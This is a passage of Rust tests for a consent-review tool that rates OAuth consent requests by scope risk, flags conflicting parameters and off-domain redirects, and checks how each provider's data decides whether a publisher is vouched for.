    for (provider, url, tier, summary) in cases {
        let (review, _) = review(provider, url, &page(""), &none).unwrap();
        assert_eq!(review.risk, *tier, "{url}");
        assert_eq!(support::words_text(&review.summary, &review.scopes), *summary, "{url}");
        assert_eq!(review.critical, *tier == Tier::Critical, "{url}");
    }
    let (r, findings) = review(
        "azure-devops",
        &format!("{ADO}?client_id={APP}&client_id=other&scope=vso.code&redirect_uri=https%3A%2F%2Fbuild.fabrikam.net%2Fcb"),
        &page("Contoso Build Helper by Contoso Ltd would like permission to access your Azure DevOps resources.\nWebsite: https://contoso.com"),
        &none,
    )
    .unwrap();
    assert_eq!(r.request.app_name.as_deref(), Some("Contoso Build Helper"));
    assert_eq!(r.request.publisher.as_deref(), Some("Contoso Ltd"));
    assert_eq!(r.destination.params, ["build.fabrikam.net"]);
    assert_eq!(
        rules(&findings),
        [("request.conflicting-parameter", Severity::Caution), ("redirect.other-domain", Severity::Caution)]
    );
    // The review travels inside the verdict as camelCase JSON.
    let json = serde_json::to_value(&r).unwrap();
    assert_eq!(json["request"]["clientId"], APP);
    assert_eq!(json["scopes"][0]["tier"], "medium");
    assert_eq!(json["risk"], "medium");
    assert!(review("azure-devops", "https://app.vssps.visualstudio.com/", &page(""), &none).is_none());
}

/// How a provider marks a publisher is its data (`publisher` in `data/providers.json` or an
/// organisation's provider): `mark` vouches only with one of its marks on the publisher's line
/// or as the piece right after it, `never` never, `shown` a publisher shown and not called
/// unverified; a first-party client id is the provider's own whatever the page shows.
#[test]
fn a_providers_publisher_rule_is_data() {
    use consent_guard::consent::publisher_vouched;
    use consent_guard::providers::{Provider, Vouched};
    let provider = |rule: serde_json::Value| {
        Provider::from_value(serde_json::json!({
            "id": "contoso-idp", "origins": ["https://id.contoso.com"], "publisher": rule
        }))
        .unwrap()
        .normalized()
        .unwrap()
    };
    let idp = provider(serde_json::json!({
        "vouched": "mark", "marks": [" Trusted Publisher "],
        "firstParty": [{ "clientId": " 0A1B2C3D-0000-4000-8000-00000000C0DE ", "name": "Contoso Portal" }]
    }));
    assert_eq!(idp.publisher.marks, ["trusted publisher"]);
    assert_eq!(idp.publisher.first_party[0].client_id, "0a1b2c3d-0000-4000-8000-00000000c0de");
    let url = |client: &str| format!("https://id.contoso.com/authorize?client_id={client}&scope=directory.write");
    let review = |p: &Provider, client: &str, text: &str| {
        let snap = page(text);
        consent_guard::consent::review_url(
            p,
            &url::Url::parse(&url(client)).unwrap(),
            &snap,
            &Policy::default(),
            &looks(),
        )
        .unwrap()
        .0
        .request
    };
    let marked = "Authorize application\nBuild Helper\nby Fabrikam Ltd\n✓ Trusted publisher\nWebsite: fabrikam.example";
    let inline = "Authorize application\nBuild Helper\nby Fabrikam Ltd (trusted publisher)";
    let bare = "Authorize application\nBuild Helper\nby Fabrikam Ltd\nWebsite: fabrikam.example";
    let other_mark = "Authorize application\nBuild Helper\nby Fabrikam Ltd\nVerified";
    let r = review(&idp, "x1", marked);
    assert_eq!((r.publisher.as_deref(), r.publisher_verified), (Some("Fabrikam Ltd"), true));
    assert!(publisher_vouched(&idp.publisher, &r));
    // The mark inside the line the app's registrant wrote is not read outside Microsoft's block.
    assert!(!publisher_vouched(&idp.publisher, &review(&idp, "x1", inline)));
    assert!(!publisher_vouched(&idp.publisher, &review(&idp, "x1", bare)));
    assert!(!publisher_vouched(&idp.publisher, &review(&idp, "x1", other_mark)), "another provider's mark");
    // The provider's own app, by its client id (any case), named as the data names it.
    let own = review(&idp, "0a1b2c3d-0000-4000-8000-00000000C0DE", bare);
    assert_eq!((own.first_party, own.app_name.as_deref()), (true, Some("Contoso Portal")));
    assert!(publisher_vouched(&idp.publisher, &own));
    let near = review(&idp, "0a1b2c3d-0000-4000-8000-00000000c0df", bare);
    assert!(!near.first_party && !publisher_vouched(&idp.publisher, &near));
    // `never` and `shown`, and the default (`shown`, as for an organisation's provider before).
    let never = provider(serde_json::json!({ "vouched": "never", "marks": ["Trusted publisher"] }));
    assert!(!publisher_vouched(&never.publisher, &review(&never, "x1", marked)));
    let shown = provider(serde_json::json!({ "vouched": "shown" }));
    assert!(publisher_vouched(&shown.publisher, &review(&shown, "x1", bare)));
    assert!(!publisher_vouched(
        &shown.publisher,
        &review(&shown, "x1", "Permissions requested\nBuild Helper\nunverified")
    ));
    let default = provider(serde_json::json!({}));
    assert_eq!(default.publisher.vouched, Vouched::Shown);
    // The built-in providers say what the engine did before: Microsoft's mark, Azure DevOps never.
    let builtin = |id: &str| providers::builtin().providers.iter().find(|p| p.id == id).unwrap().publisher.vouched;
    assert_eq!(
        ["microsoft", "azure-devops", "github", "google"].map(builtin),
        [Vouched::Mark, Vouched::Never, Vouched::Shown, Vouched::Shown]
    );
}
